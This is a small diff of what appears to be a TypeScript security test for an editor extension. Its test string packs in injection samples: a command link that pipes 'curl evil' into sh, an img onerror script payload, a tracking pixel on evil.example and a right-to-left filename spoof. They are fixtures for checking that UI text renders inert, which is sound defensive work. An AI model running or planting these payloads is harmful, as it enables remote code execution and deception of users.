@@ -14,7 +14,7 @@ const HOSTILE =
   'Quota exceeded. [Reset your quota](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) ' +
   '<a href="command:workbench.action.openSettings">here</a> <img src=x onerror=alert(1)> $(verified) official ' +
   '![x](https://evil.example/pixel.png) [ref]: command:evil \u202Egnp.exe ' +
-  'x'.repeat(200_000);
+  'x'.repeat(20_000);
 
 /** What would render as a link, an image, HTML or an icon in a notification, tooltip or quick pick. */
 function assertInert(text: string, where: string): void {
